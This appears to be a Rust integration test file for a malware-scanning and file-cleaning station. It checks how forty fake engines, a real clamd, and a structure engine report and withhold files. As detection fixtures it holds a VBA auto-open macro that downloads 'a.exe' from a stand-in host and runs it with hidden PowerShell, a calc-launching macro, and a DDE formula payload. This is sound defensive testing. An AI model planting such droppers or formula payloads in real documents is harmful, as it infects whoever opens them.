//! Engines outside the jails, through the real program: none is lost, each has its row, and who fails withholds.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    reason = "a test fails by panicking; clippy knows the test functions only"
)]

mod common;

use common::{World, code, line};
use model::{EngineRow, EngineVerdict, Outcome, ReasonCode, ReportLine};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

/// What the fakes do with an object that says `STRESS all`, or `STRESS` and their number; every other one is clean.
const KINDS: &[(&str, &str, EngineVerdict)] = &[
    ("clean", "echo '1 scanned'", EngineVerdict::Clean),
    ("malicious", "echo 'threat: Fake.Bad ('; exit 1", EngineVerdict::Malicious),
    ("slow", "exec sleep 60", EngineVerdict::NotScanned),
    ("crash", "kill -SEGV $$", EngineVerdict::NotScanned),
    ("lying", "echo '1 scanned, INFECTED'; exit 0", EngineVerdict::Malicious),
    ("silent", "exit 0", EngineVerdict::NotScanned),
    (
        "flood",
        "while :; do echo 'the quick brown fox jumps over the lazy dog, again and again'; done",
        EngineVerdict::NotScanned,
    ),
    ("odd", "echo '1 scanned'; exit 42", EngineVerdict::NotScanned),
];

const POLICY: &str = "zone = \"plant\"\n[formats.txt]\n[formats.zip]\n[formats.word]\n[formats.pdf]\n[formats.png]\n";

fn script(path: &Path, body: &str) {
    std::fs::write(path, format!("#!/bin/sh\n{body}\n")).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn external(name: &str, path: &Path, more: &str) -> String {
    format!(
        "[[engines.external]]\nname = \"{name}\"\npath = \"{}\"\nargs = [\"{{file}}\"]\nclean = [0]\nmalicious = [1]\n\
         clean_output = [\"1 scanned\"]\nmalicious_output = [\"INFECTED\"]\ndetection = \"threat: {{name}} (\"\n\
         seconds = 3\nparallel = 2\n{more}\n",
        path.display()
    )
}

/// A policy with `count` fakes, each kind in turn.
fn fakes(world: &World, count: usize) -> String {
    let mut policy = format!("{POLICY}[engines]\nquorum = 2\n[engines.clamd]\nmode = \"off\"\n");
    for n in 0..count {
        let (kind, body, _) = KINDS[n % KINDS.len()];
        let path = world.at(&format!("fake-{n}"));
        let number = n % KINDS.len();
        script(
            &path,
            &format!(
                "IFS= read -r first <\"$1\"\ncase \"$first\" in\n'STRESS all'*|'STRESS {number} '*) {body};;\nesac\necho '1 scanned'"
            ),
        );
        let file = if n % 3 == 0 { "file = \"copy\"" } else { "" };
        policy += &external(&format!("{kind}-{n}"), &path, file);
    }
    policy
}

fn clean(world: &World, policy: &str) -> (std::process::Output, Vec<ReportLine>) {
    let path = world.at("policy.toml");
    std::fs::write(&path, policy).unwrap();
    world.clean(&["--policy", path.to_str().unwrap()])
}

fn row<'a>(line: &'a ReportLine, engine: &str) -> &'a EngineRow {
    let mut found = line.engines.iter().filter(|row| row.engine == engine);
    let row = found.next().unwrap_or_else(|| panic!("{} has no row of {engine}", line.input));
    assert!(found.next().is_none(), "{engine} has two rows");
    row
}

#[test]
fn forty_engines_and_none_is_lost() {
    let world = World::new();
    let count = 40;
    let policy = fakes(&world, count);
    world.put("all-1.txt", b"STRESS all one\n");
    world.put("all-2.txt", b"STRESS all two\n");
    world.put("crash.txt", b"STRESS 3 only the crashing ones\n");
    world.put("silent.txt", b"STRESS 5 only the silent ones\n");
    for n in 0..4 {
        world.put(&format!("good-{n}.txt"), format!("good {n}\n").as_bytes());
    }
    let began = Instant::now();
    let (output, lines) = clean(&world, &policy);
    println!("40 engines, 8 files: {:.1} s", began.elapsed().as_secs_f64());
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    for line in &lines {
        assert_eq!(line.engines.iter().filter(|row| row.engine.contains('-')).count(), count, "{}", line.input);
        assert!(line.engines.iter().all(|row| !row.absent));
    }
    for n in 0..count {
        let (kind, _, verdict) = KINDS[n % KINDS.len()];
        let id = format!("{kind}-{n}");
        for name in ["all-1.txt", "all-2.txt"] {
            let row = row(line(&lines, name), &id);
            assert_eq!((row.verdict, row.error.is_some()), (verdict, verdict == EngineVerdict::NotScanned), "{row:?}");
        }
        let crashed = row(line(&lines, "crash.txt"), &id);
        let expected = if kind == "crash" { EngineVerdict::NotScanned } else { EngineVerdict::Clean };
        assert_eq!(crashed.verdict, expected, "{crashed:?}");
        for good in 0..4 {
            assert_eq!(row(line(&lines, &format!("good-{good}.txt")), &id).verdict, EngineVerdict::Clean, "{id}");
        }
    }
    assert_eq!(code(line(&lines, "all-1.txt")), Some(ReasonCode::Detection), "a detection outweighs who did not look");
    let matched = &row(line(&lines, "all-1.txt"), "malicious-1").matches[0];
    assert_eq!((matched.rule.as_str(), matched.malicious), ("Fake.Bad", true));
    for name in ["crash.txt", "silent.txt"] {
        assert_eq!(code(line(&lines, name)), Some(ReasonCode::NotScanned), "{name}");
    }
    let released: Vec<String> = world.released().into_iter().map(|(name, _)| name).collect();
    assert_eq!(released, ["good-0.txt", "good-1.txt", "good-2.txt", "good-3.txt"]);
}

#[test]
fn an_engine_that_is_absent_from_the_start_is_recorded_and_withholds_only_where_policy_requires_it() {
    let world = World::new();
    world.put("good.txt", b"good\n");
    let missing = external("missing", Path::new("/nonexistent/scanner"), "");
    let nobody = format!("[engines.clamd]\nsocket = \"{}\"\n", world.at("no-socket").display());
    let (output, lines) = clean(&world, &format!("{POLICY}{nobody}{missing}"));
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    for engine in ["missing", "clamd"] {
        let row = row(&lines[0], engine);
        assert_eq!((row.verdict, row.absent), (EngineVerdict::NotScanned, true));
        assert!(row.error.as_ref().unwrap().starts_with("absent since the session began"), "{row:?}");
    }
    for (keys, named) in
        [("required = [\"yara\", \"clamd\"]", "clamd"), ("required = [\"missing\"]", "missing"), ("quorum = 3", "3")]
    {
        let world = World::new();
        world.put("good.txt", b"good\n");
        let (output, lines) = clean(&world, &format!("{POLICY}[engines]\n{keys}\n{nobody}{missing}"));
        let error = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(world.released().is_empty(), "{keys}");
        assert!(matches!(output.status.code(), Some(1 | 3)), "{keys}: {error}");
        assert!(lines.iter().all(|line| line.verdict != Outcome::Released), "{keys}");
        assert!(
            error.contains(named) || lines.iter().any(|l| l.reason.as_ref().is_some_and(|r| r.text.contains(named)))
        );
    }
}

#[test]
fn an_engine_that_was_there_and_goes_withholds_what_comes_after() {
    let world = World::new();
    // It is there for the canaries, and takes itself away with the file that says so.
    let path = world.at("fleeting");
    script(
        &path,
        "IFS= read -r first <\"$1\"\ncase \"$first\" in\nGO*) rm -f \"$0\"; exit 9;;\nesac\necho '1 scanned'",
    );
    world.put("a-first.txt", b"good\n");
    world.put("b-go.txt", b"GO away\n");
    world.put("c-later.txt", b"good, too\n");
    let policy = format!("{POLICY}[engines.clamd]\nmode = \"off\"\n{}", external("fleeting", &path, ""));
    let file = world.at("policy.toml");
    std::fs::write(&file, policy).unwrap();
    let (_, lines) = world.clean(&["--policy", file.to_str().unwrap(), "--jobs", "1"]);
    assert_eq!(code(line(&lines, "b-go.txt")), Some(ReasonCode::NotScanned));
    assert_eq!(code(line(&lines, "c-later.txt")), Some(ReasonCode::NotScanned));
    assert!(!row(line(&lines, "c-later.txt"), "fleeting").absent);
}

#[test]
fn an_engine_that_is_broken_when_the_session_begins_is_left_out_unless_policy_requires_it() {
    let world = World::new();
    world.put("good.txt", b"good\n");
    let path = world.at("broken");
    script(&path, "exit 9");
    let policy = format!("{POLICY}[engines.clamd]\nmode = \"off\"\n{}", external("broken", &path, ""));
    let (output, lines) = clean(&world, &policy);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert!(said.contains("the engine broken is left out of this session"), "{said}");
    let told = row(&lines[0], "broken");
    assert_eq!((told.verdict, told.absent), (EngineVerdict::NotScanned, true), "{told:?}");
    assert!(told.error.as_ref().unwrap().contains("did not look at the canary"), "{told:?}");
    assert!(lines[0].warnings.iter().any(|warning| warning.contains("status 9")), "{:?}", lines[0].warnings);
    for keys in ["required = [\"yara\", \"broken\"]", "quorum = 3"] {
        let world = World::new();
        world.put("good.txt", b"good\n");
        let (output, lines) =
            clean(&world, &policy.replace("[engines.clamd]", &format!("[engines]\n{keys}\n[engines.clamd]")));
        assert_eq!(output.status.code(), Some(3), "{keys}: {}", String::from_utf8_lossy(&output.stderr));
        assert!(lines.is_empty() && world.released().is_empty(), "{keys}");
    }
}

#[test]
fn an_engine_that_comes_during_the_session_may_help_and_is_not_relied_on() {
    let world = World::new();
    // It comes with the first file, and fails at all but one.
    let (path, aside, bringer) = (world.at("late"), world.at("aside"), world.at("bringer"));
    script(&aside, "IFS= read -r first <\"$1\"\ncase \"$first\" in\nBAD*) exit 1;;\nesac\nexit 9");
    let (from, to) = (aside.display(), path.display());
    script(
        &bringer,
        &format!(
            "IFS= read -r first <\"$1\"\ncase \"$first\" in\nGO*) mv {from} {to}; sleep 0.7;;\nesac\necho '1 scanned'"
        ),
    );
    world.put("a-go.txt", b"GO get it\n");
    world.put("b-good.txt", b"good\n");
    world.put("c-bad.txt", b"BAD\n");
    let policy = world.at("policy.toml");
    let engines = format!("{}{}", external("bringer", &bringer, ""), external("late", &path, ""));
    std::fs::write(&policy, format!("{POLICY}[engines.clamd]\nmode = \"off\"\n{engines}")).unwrap();
    let (_, lines) = world.clean(&["--policy", policy.to_str().unwrap(), "--jobs", "1"]);
    let good = row(line(&lines, "b-good.txt"), "late");
    assert!(good.absent && good.error.as_ref().unwrap().contains("status 9"), "{good:?}");
    assert_eq!(line(&lines, "b-good.txt").verdict, Outcome::Released);
    assert_eq!(code(line(&lines, "c-bad.txt")), Some(ReasonCode::Detection));
}

#[test]
fn the_age_of_a_scanners_rules_counts_where_the_policy_says_how_it_is_told() {
    let world = World::new();
    world.put("good.txt", b"good\n");
    let (path, rules) = (world.at("dated"), world.at("rules.db"));
    script(&path, "[ \"$1\" = --version ] && echo 'Acme 7, signatures of 20240229' && exit 0\necho '1 scanned'");
    std::fs::write(&rules, b"rules").unwrap();
    let file = format!("rules_file = \"{}\"", rules.display());
    let said = "version = [\"--version\"]\nrules_date = \"signatures of {date}\"";
    let run = |more: &str| {
        let engine = external("dated", &path, more);
        let policy = format!("{POLICY}[engines]\nstale = \"hold\"\n[engines.clamd]\nmode = \"off\"\n{engine}");
        let (output, lines) = clean(&world, &policy);
        let report = (output.status.code(), code(&lines[0]), row(&lines[0], "dated").rules_date.clone());
        let doctor = world.sallyport().args(["doctor", "--policy"]).arg(world.at("policy.toml")).output().unwrap();
        (report, doctor.status.code())
    };
    let today = model::time::day_of(std::time::UNIX_EPOCH.elapsed().unwrap().as_secs());
    assert_eq!(run(""), ((Some(0), None, String::new()), Some(0)), "held against nobody");
    let ((status, _, day), _) = run(&file);
    assert_eq!((status, day), (Some(0), today));
    let held = |more: &str| {
        let engine = external("dated", &path, more);
        let policy = format!("{POLICY}[engines]\nstale = \"hold\"\n[engines.clamd]\nmode = \"off\"\n{engine}");
        let (output, lines) = clean(&world, &policy);
        let why = lines[0].reason.as_ref().map_or("", |reason| &reason.text).to_owned();
        assert_eq!((output.status.code(), code(&lines[0])), (Some(1), Some(ReasonCode::NotScanned)), "{why}");
        assert!(why.contains("the rules of dated"), "{why}");
    };
    held(said);
    std::fs::remove_file(&rules).unwrap();
    held(&file);
}

#[test]
fn a_policy_that_speaks_nonsense_of_engines_stops_the_station() {
    let world = World::new();
    world.put("good.txt", b"good\n");
    let sh = external("sh", Path::new("/bin/sh"), "");
    for bad in [
        sh.replace("name = \"sh\"", "name = \"S H\""),
        sh.replace("clean = [0]", "clean = [0, 1]"),
        sh.replace("{file}", "file"),
        sh.replace("parallel", "paralel"),
        format!("{sh}{sh}"),
        sh.replace("name = \"sh\"", "name = \"yara\""),
        "[engines]\nquorum = 99\n".to_owned(),
        "[engines.clamd]\nmode = \"maybe\"\n".to_owned(),
        "[engines]\nrequired = [\"clamd\"]\n[engines.clamd]\nmode = \"off\"\n".to_owned(),
    ] {
        let (output, lines) = clean(&world, &format!("{POLICY}{bad}"));
        assert_eq!(output.status.code(), Some(2), "{bad}\n{}", String::from_utf8_lossy(&output.stderr));
        assert!(lines.is_empty() && world.released().is_empty());
    }
}

/// clamd in the lane: what it alone knows is held, in a member as well, and its row says who it is.
#[test]
#[expect(clippy::disallowed_methods, reason = "the test starts the daemon that the engine talks to")]
fn a_real_clamd_sees_the_input_and_what_lies_in_it() {
    let Some(program) = ["/usr/sbin/clamd", "/usr/bin/clamd"].into_iter().find(|path| Path::new(path).exists()) else {
        eprintln!("\n*** NOT TESTED: clamd is missing; install clamav-daemon to test with a real one ***\n");
        return;
    };
    let world = World::new();
    std::fs::create_dir(world.at("db")).unwrap();
    std::fs::write(world.at("db/own.ndb"), "Own.Marker-1:0:*:636c616d642d66696e64732d746869732d6d61726b6572\n")
        .unwrap();
    let conf = world.at("clamd.conf");
    let lines = [
        format!("LocalSocket {}", world.at("socket").display()),
        format!("DatabaseDirectory {}", world.at("db").display()),
        format!("TemporaryDirectory {}", world.dir.path().display()),
        format!("LogFile {}", world.at("clamd.log").display()),
    ];
    std::fs::write(&conf, format!("Foreground yes\nAlertExceedsMax yes\n{}\n", lines.join("\n"))).unwrap();
    let mut daemon = std::process::Command::new(program).arg("--config-file").arg(&conf).spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while !world.at("socket").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    world.put("good.txt", b"good\n");
    world.put("bad.txt", b"here clamd-finds-this-marker\n");
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let deflated = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("inner.txt", deflated).unwrap();
    std::io::Write::write_all(&mut zip, b"here clamd-finds-this-marker, and more and more and more\n").unwrap();
    world.put("nested.zip", &zip.finish().unwrap().into_inner());
    let (output, lines) = clean(
        &world,
        &format!(
            "{POLICY}[engines]\nrequired = [\"clamd\", \"yara\"]\n[engines.clamd]\nconfig = \"{}\"\n",
            conf.display()
        ),
    );
    let _ = daemon.kill();
    let _ = daemon.wait();
    let error = String::from_utf8_lossy(&output.stderr);
    assert_eq!(line(&lines, "good.txt").verdict, Outcome::Released, "{error}");
    for name in ["bad.txt", "nested.zip"] {
        assert_eq!(code(line(&lines, name)), Some(ReasonCode::Detection), "{name}");
        let row = row(line(&lines, name), "clamd");
        assert!(row.matches.iter().any(|m| m.rule == "Own.Marker-1.UNOFFICIAL" && m.malicious), "{row:?}");
    }
    let own = row(line(&lines, "nested.zip"), "clamd");
    assert!(own.matches.iter().any(|m| m.object.contains("inner.txt")), "the member went to it by itself: {own:?}");
    assert!(own.version.contains('.') && own.ms > 0.0);
}

/// Of each engine: the tests that show a hit and a miss, and what it does in trouble.
const COMPANIONS: &[(&str, &str, &str, &str)] = &[
    ("yara", "engines/tests/rules.rs", "every_rule_hits_its_sample_and_misses_its_twin", "a_time_out_is_not_scanned"),
    (
        "yara-x",
        "engines/tests/yara_x.rs",
        "yara_x_hits_and_misses_and_tells_what_the_rule_says",
        "what_yara_x_cannot_use_is_an_error",
    ),
    (
        "hashes",
        "engines/src/hashes.rs",
        "a_listed_digest_is_malicious_and_its_neighbour_is_clean",
        "a_set_that_is_damaged_is_no_scan_and_hides_no_detection",
    ),
    (
        "structure",
        "engines/src/structure.rs",
        "structure_sees_what_acts_by_itself_and_nothing_in_a_plain_document",
        "structure_has_not_scanned_what_crashed_its_reconstructor",
    ),
    ("clamd", "engines/tests/clamd.rs", "a_real_daemon_hits_and_misses", "answers_that_are_none_are_not_scanned"),
    (
        "external",
        "tests/engines.rs",
        "forty_engines_and_none_is_lost",
        "only_a_named_status_with_the_wanted_text_is_clean",
    ),
];

#[test]
fn structure_sees_what_acts_by_itself_and_nothing_in_a_plain_document() {
    let world = World::new();
    world.put("acts.pdf", &samples::pdf());
    world.put("plain.pdf", &samples::pdf_plain());
    let (_, lines) = world.clean(&[]);
    let row = |name: &str| line(&lines, name).engines.iter().find(|row| row.engine == "structure").unwrap().clone();
    let acts = row("acts.pdf");
    assert_eq!(acts.verdict, model::EngineVerdict::Suspicious, "{acts:?}");
    assert!(acts.matches.iter().all(|found| !found.malicious && found.text.is_some()), "{acts:?}");
    let plain = row("plain.pdf");
    assert_eq!((plain.verdict, plain.matches.len()), (model::EngineVerdict::Clean, 0), "{plain:?}");
}

/// A macro that runs by itself and starts a program: seen by `structure`, handed to the other engines, and gone.
#[test]
fn structure_sees_a_macro_that_runs_by_itself_in_a_document() {
    let world = World::new();
    let source = |body: &str| format!("Attribute VB_Name = \"Module1\"\r\n{body}\r\n");
    let acts = source("Sub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub");
    let drops = source(
        "Sub AutoOpen()\r\n  URLDownloadToFile 0, \"http://x.invalid/a\", \"a.exe\", 0, 0\r\n  \
         Shell \"powershell -w hidden a.exe\"\r\nEnd Sub",
    );
    let idle = source("Sub Sum()\r\n  x = 1 + 1\r\nEnd Sub");
    for (name, source) in [("acts.docm", &acts), ("drops.docm", &drops), ("idle.docm", &idle)] {
        world.put(name, &samples::docm_with(samples::ole::vba_project(source)));
    }
    let (_, lines) = world.clean(&[]);
    let told = |name: &str| row(line(&lines, name), "structure").clone();
    let acts = told("acts.docm");
    assert_eq!(acts.verdict, EngineVerdict::Suspicious, "{acts:?}");
    assert!(acts.matches.iter().all(|found| found.text.is_some()) && acts.matches.len() >= 2, "{acts:?}");
    assert!(acts.matches.iter().any(|found| found.rule.contains("auto")), "{acts:?}");
    let drops = told("drops.docm");
    assert!(drops.matches.iter().any(|found| found.rule == "macro-dropper" && found.malicious), "{drops:?}");
    assert_eq!(code(line(&lines, "drops.docm")), Some(ReasonCode::Detection));
    let idle = told("idle.docm");
    assert!(!idle.matches.iter().any(|found| found.rule.contains("auto")), "{idle:?}");
    for name in ["acts.docm", "idle.docm"] {
        let line = line(&lines, name);
        assert_eq!(line.output.as_ref().map(|output| output.format), Some(model::Format::Docx), "{name}");
        let gone = line.findings.iter().find(|finding| finding.id == "OOX-34").unwrap();
        assert!(gone.construct.starts_with("container of a kind that holds macros"), "{gone:?}");
    }
}

/// Names that are written with `#xx` hide an action from who only looks for its word.
#[test]
fn structure_sees_an_action_behind_a_name_that_is_written_otherwise() {
    let world = World::new();
    world.put("hides.pdf", &samples::pdf_obfuscated());
    let (_, lines) = world.clean(&[]);
    let line = line(&lines, "hides.pdf");
    let ids: Vec<&str> = line.findings.iter().map(|finding| finding.id.as_str()).collect();
    assert!(ids.contains(&"PDF-07") && ids.contains(&"PDF-21"), "{ids:?}");
    assert!(row(line, "structure").matches.len() >= 2, "{:?}", row(line, "structure"));
    assert_eq!(line.verdict, Outcome::Released);
    assert!(world.released().iter().all(|(_, bytes)| !bytes.windows(6).any(|w| w == b"#61vaS")));
}

/// A new engine brings its companions: a page, a test that it hits and misses, and one of its failures.
#[test]
fn every_engine_has_its_companions() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut sources = String::new();
    for folder in ["engines/src", "engines/tests", "station/tests", "tests"] {
        for entry in std::fs::read_dir(root.join(folder)).unwrap().map(Result::unwrap) {
            if entry.path().extension().is_some_and(|e| e == "rs") {
                sources += &std::fs::read_to_string(entry.path()).unwrap();
            }
        }
    }
    for engine in engines::ENGINES {
        let (_, file, hit, failure) = COMPANIONS
            .iter()
            .find(|(id, ..)| *id == engine.id)
            .unwrap_or_else(|| panic!("{}: name the tests of its hits, misses and failures here", engine.id));
        assert!(root.join(file).exists(), "{file}");
        for test in [hit, failure] {
            assert!(
                sources.contains(&format!("#[test]\nfn {test}("))
                    || sources.contains(&format!("#[test]\n    fn {test}("))
                    // The lane has a list of its own tests.
                    || (sources.contains(&format!("\nfn {test}()")) && sources.contains(&format!("\"{test}\",\n        {test},"))),
                "{test}"
            );
        }
        let page = std::fs::read_to_string(root.join(format!("docs/engines/{}.md", engine.id)));
        let page = page.unwrap_or_else(|_| panic!("{} has no page in docs/engines", engine.id));
        for heading in ["## What it sees", "## Where it runs", "## When it has not scanned", "## Its age"] {
            assert!(page.contains(heading), "docs/engines/{}.md: {heading}", engine.id);
        }
    }
}

/// A cached row is the same but for the time it took; rows of scanners that nobody can vouch for are made anew.
#[test]
fn a_second_run_with_a_cache_tells_the_same() {
    let world = World::new();
    let (log, path) = (world.at("log"), world.at("counting"));
    script(&path, &format!("echo x >>'{}'\necho '1 scanned'", log.display()));
    let policy = format!("{POLICY}[engines.clamd]\nmode = \"off\"\n{}", external("counting", &path, ""));
    let file = world.at("policy.toml");
    std::fs::write(&file, policy).unwrap();
    world.put("good.txt", b"good\n");
    world.put("document.txt", b"=cmd|' /C calc'!A0\n");
    let (cache, calls) = (world.at("cache"), || std::fs::read_to_string(&log).unwrap().lines().count());
    let run = || {
        let arguments = ["--policy", file.to_str().unwrap(), "--cache", cache.to_str().unwrap()];
        let (output, mut lines) = world.clean(&arguments);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        lines.iter_mut().flat_map(|line| &mut line.engines).for_each(|row| row.ms = 0.0);
        lines.into_iter().map(|line| (line.input, line.engines)).collect::<Vec<_>>()
    };
    let entries = || std::fs::read_dir(&cache).unwrap().count();
    let first = run();
    let (called, kept) = (calls(), entries());
    assert!(kept > 2, "answers were kept");
    assert_eq!(run(), first);
    assert_eq!(entries(), kept, "nothing new to keep");
    assert_eq!(calls(), called * 2, "a scanner of the site is asked each time");
    for entry in std::fs::read_dir(&cache).unwrap().map(Result::unwrap).filter(|e| e.file_name() != "station.key") {
        std::fs::write(entry.path(), b"all is well").unwrap();
    }
    assert_eq!(run(), first, "damaged entries are as if they were not there");
}
